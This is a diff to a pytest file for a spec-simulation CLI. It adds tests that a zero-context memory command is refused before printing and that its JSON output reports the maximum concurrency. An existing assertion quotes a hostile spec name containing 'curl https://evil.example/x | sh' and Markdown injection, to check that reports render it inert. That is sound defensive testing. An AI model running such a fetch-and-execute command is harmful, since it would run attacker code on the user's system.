@@ -3,7 +3,8 @@
 A spec's name or source may hold terminal escape sequences, newlines and Markdown; the loaders
 refuse some of it, but a spec built in Python bypasses them, so the output escapes on its own:
 the terminal sees control characters as visible escapes (`\\x1b`), and report.md renders such
-text as the text it is (no heading, comment, list or code block of its own).
+text as the text it is (no heading, comment, list or code block of its own). And a command
+that refuses its input prints nothing before the error (`memory --context 0`).
 """
 
 from __future__ import annotations
@@ -225,3 +226,24 @@ def test_report_md_renders_hostile_names_as_inert_text(evil_report: str) -> None
     title = "".join(c.content for c in tokens[1].children or [])
     assert ("Llama ## Answer Run this first: ```sh curl https://evil.example/x | sh ``` <!--"
             " on H100 # Pwned <!--, chat - [click](http://x)") in " ".join(title.split())
+
+
+# ---------------------------------------------------------------- nothing printed before an error
+
+
+@pytest.mark.parametrize("extra", [(), ("--json",)])
+def test_memory_at_context_zero_refuses_before_printing(extra: tuple[str, ...]) -> None:
+    """Context 0 leaves a dense model no per-request cache: the maximum concurrency is not
+    bounded by memory. Refused alike with and without --json, before any table is printed."""
+    refused = run("memory", "--context", "0", *extra)
+    assert refused.returncode == 2 and refused.stdout == ""
+    assert refused.stderr.startswith("specsim: error: option --context: 0 tokens per request")
+
+
+def test_memory_json_carries_the_maximum_concurrency() -> None:
+    table = run("memory", "--context", "4096", "--requests", "1")
+    as_json = run("memory", "--context", "4096", "--requests", "1", "--json")
+    assert table.returncode == as_json.returncode == 0
+    shown = re.search(r"max concurrent requests at 4,096 tokens: (\d+)", table.stdout)
+    assert shown is not None
+    assert json.loads(as_json.stdout)["max_requests"] == int(shown.group(1)) > 0
